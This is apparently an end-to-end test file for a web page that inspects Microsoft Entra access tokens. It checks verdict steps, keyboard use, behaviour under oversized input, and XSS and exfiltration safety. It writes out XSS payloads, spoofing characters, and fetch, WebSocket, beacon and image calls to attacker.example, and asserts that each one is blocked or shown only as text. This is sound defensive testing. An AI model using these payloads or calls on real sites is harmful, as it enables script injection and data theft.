import { defaults } from '@entraguard/emulator'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'

import { expectQuiet, usePortal } from './open-portal.ts'

const portal = usePortal()

const keysOf = (query = ''): string =>
  `https://login.microsoftonline.com/${defaults.tenantId}/discovery/v2.0/keys${query}`

/** Every name of a step with its state, as a person reads them. */
const stepsOf = async (page: Page): Promise<Readonly<Record<string, string>>> =>
  Object.fromEntries(
    await Promise.all(
      (await page.locator('.pipeline li').all()).map(async (step) => [
        await step.locator('b').innerText(),
        await step.locator('.state').innerText(),
      ]),
    ),
  ) as Record<string, string>

/** Nothing of what was typed may be anywhere but in the page itself. */
async function expectNothingKept(page: Page, token: string): Promise<void> {
  expect(page.url()).toBe(`${portal.url}/#/inspector`)
  expect(await page.title()).toBe('Inspector · Entraguard')
  const kept = await page.evaluate(
    'JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, history.state, window.name])',
  )
  expect(String(kept)).not.toContain(token.slice(0, 20))
  expect(await page.evaluate('indexedDB.databases()')).toEqual([])
}

const part = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

describe('what the inspector says', () => {
  it('goes as far as the settings lead: nothing about the signature without the keys', async () => {
    const { page, close } = await portal.open('inspector')
    await page.getByLabel('Tenant').fill('')
    await page.getByLabel('Access token').fill(await portal.entra.issueUserToken())
    await page.getByText('Fill in the tenant and the audience').waitFor()
    expect(await stepsOf(page)).toMatchObject({ Header: 'passed', Shape: 'passed', Issuer: 'not reached' })
    await page.getByLabel('Signing keys (JSON)').fill(' ')
    await page.getByLabel('Tenant').fill(defaults.tenantId)
    await page.getByText('Give it the signing keys').waitFor()
    expect(await stepsOf(page)).toMatchObject({
      Issuer: 'passed',
      Key: 'not reached',
      Signature: 'not reached',
    })
    expect(await page.getByRole('link', { name: keysOf() }).getAttribute('href')).toBe(keysOf())
    await page.getByLabel('App id').fill(defaults.apiClientId)
    await page.getByRole('link', { name: keysOf(`?appid=${defaults.apiClientId}`) }).waitFor()
    await close()
  })

  it('checks the key of an app, read from the emulator, and what a route asks', async () => {
    const clientId = 'abababab-2222-4222-8222-222222222222'
    portal.entra.register({ apps: [{ clientId, name: 'SAML', samlSso: true, scopes: ['Orders.Read'] }] })
    const { page, close } = await portal.open('inspector')
    await page.getByLabel('Audience').fill(clientId)
    await page.getByLabel('Access token').fill(await portal.entra.issueUserToken({ audience: clientId }))
    await page.getByRole('heading', { name: 'Refused' }).waitFor()
    expect(await stepsOf(page)).toMatchObject({ Key: 'refused', Signature: 'not reached' })
    await page.getByLabel('App id').fill(clientId)
    await page.getByRole('heading', { name: 'Accepted' }).waitFor()
    expect(await stepsOf(page)).toMatchObject({ Signature: 'passed', Permissions: 'passed' })
    await page.getByLabel('Scopes of the route').fill('Orders.Write')
    await page.getByText('scope_missing', { exact: true }).first().waitFor()
    expect(await stepsOf(page)).toMatchObject({ Claims: 'passed', Permissions: 'refused' })
    portal.entra.unregister(clientId)
    await close()
  })

  it.each(['hello', 'Bearer'])('is a verdict also of what is no token at all: %s', async (text) => {
    const { page, close } = await portal.open('inspector')
    await page.getByLabel('Access token').fill(text)
    await page.getByRole('heading', { name: 'Refused' }).waitFor()
    expect(await stepsOf(page)).toMatchObject({ Header: 'passed', Shape: 'refused', Issuer: 'not reached' })
    await close()
  })

  it('names too many groups, which the route would have to look up', async () => {
    const { page, close } = await portal.open('inspector')
    await page.getByLabel('Access token').fill(await portal.entra.issueUserToken({ groups: 'overage' }))
    await page.getByRole('heading', { name: 'Accepted' }).waitFor()
    expect(await page.locator('.verdict, .findings').allTextContents()).toContainEqual(
      expect.stringContaining('groups_overage'),
    )
    await close()
  })
})

describe('whatever is pasted', () => {
  it('is shown as text, in every claim and header: nothing of it runs, links or is kept', async () => {
    const attacks = [
      '<img src=x onerror=alert(1)>',
      '<script>alert(1)</script>',
      'javascript:alert(1)',
      '"><svg onload=alert(1)>',
      'https://attacker.example/?steal',
      '\u202Emoc.rekcatta',
      '\u001b[31m\u0000',
    ]
    const names = 'aud iss sub name oid tid scp roles ver azp <b>bold</b> __proto__x constructor'.split(' ')
    const watched = await portal.open('inspector')
    const { page, close } = watched
    for (const attack of attacks) {
      const claims = Object.fromEntries(names.map((name) => [name, attack]))
      const token = `${part({ alg: 'RS256', kid: attack, typ: attack })}.${part({ ...claims, groups: [attack], x: { y: attack } })}.AAAA`
      await page.getByLabel('Access token').fill(token)
      await page.getByText('"<b>bold</b>":').waitFor()
      for (const line of await page.locator('.json summary').all()) await line.click()
      expect(await page.locator('.json :is(img, svg svg, script, b, iframe)').count()).toBe(0)
      const links = await page
        .locator('main a')
        .evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''))
      for (const link of links)
        expect(link).toMatch(
          /^https:\/\/(?:learn\.microsoft\.com|login\.microsoftonline\.com|github\.com\/entraguard)\//,
        )
      expect(await page.locator('main').innerText()).not.toMatch(/(?![\n\t])[\p{Cc}\u202e]/u)
      await expectNothingKept(page, token)
    }
    expectQuiet(watched)
    await close()
  })

  it('lets the page stand still neither under a megabyte nor under deep nesting', async () => {
    const watched = await portal.open('inspector')
    const { page, close } = watched
    const deep = `e30.${Buffer.from(`${'['.repeat(50_000)}${']'.repeat(50_000)}`).toString('base64url')}.AAAA`
    for (const text of ['A'.repeat(1_200_000), '.'.repeat(100_000), deep]) {
      await page.getByLabel('Access token').fill('')
      await page.getByText('Paste a token, or try a sample.').waitFor()
      await page.getByLabel('Access token').fill(text)
      await page.getByRole('heading', { name: 'Refused' }).waitFor()
    }
    await expectNothingKept(page, 'AAAAAAAAAAAAAAAAAAAA')
    expectQuiet(watched)
    await close()
  })
})

it('no script of the page reaches anybody but the emulator, whatever it is', async () => {
  const { page, errors, close } = await portal.open('inspector')
  const tried = await page.evaluate(`(async () => {
    const failed = (work) => Promise.resolve().then(work).then(() => false, () => true)
    const socket = (address) => new Promise((open, fail) => {
      const it = new WebSocket(address)
      it.onopen = open
      it.onerror = fail
    })
    return [
      await failed(() => fetch('https://attacker.example/')),
      await failed(() => fetch('http://127.0.0.1:1/')),
      await failed(() => socket('wss://attacker.example/')),
      await failed(() => new Promise((good, bad) => {
        const source = new EventSource('https://attacker.example/')
        source.onopen = good
        source.onerror = bad
      })),
      await failed(() => new Promise((good, bad) => {
        const image = new Image()
        image.onload = good
        image.onerror = bad
        image.src = 'https://attacker.example/a.png'
      })),
      navigator.sendBeacon('https://attacker.example/', 'x') && false,
    ]
  })()`)
  expect(tried).toEqual([true, true, true, true, true, false])
  const blocked = errors.filter((error) => /Content Security Policy/.test(error))
  expect(blocked.length).toBeGreaterThanOrEqual(6)
  await close()
})

it('the inspector can be used with the keyboard alone, from the paste box to the settings and back', async () => {
  const watched = await portal.open('inspector')
  const { page, close } = watched
  const focused = (): Promise<string> => page.evaluate('document.activeElement.textContent')
  await page.getByLabel('Access token').focus()
  await page.keyboard.insertText(await portal.entra.issueUserToken())
  await page.getByRole('heading', { name: 'Accepted' }).waitFor()
  for (const button of ['Try a sample', 'Copy token', 'Forget it']) {
    await page.keyboard.press('Tab')
    expect(await focused()).toBe(button)
  }
  await page.getByLabel('Tenant').focus()
  for (const field of ['Audience', 'Scopes of the route', 'App permissions of the route', 'Cloud']) {
    await page.keyboard.press('Tab')
    const label = await page.evaluate('document.activeElement.labels[0].textContent')
    expect(label).toBe(field)
  }
  await page.keyboard.press('ArrowDown')
  expect(await page.getByLabel('Cloud').inputValue()).toBe('usgov')
  await page.keyboard.press('ArrowUp')
  await page.getByRole('button', { name: 'Forget it' }).focus()
  await page.keyboard.press('Enter')
  await page.getByText('Paste a token, or try a sample.').waitFor()
  expect(await page.getByLabel('Access token').inputValue()).toBe('')
  expectQuiet(watched)
  await close()
})
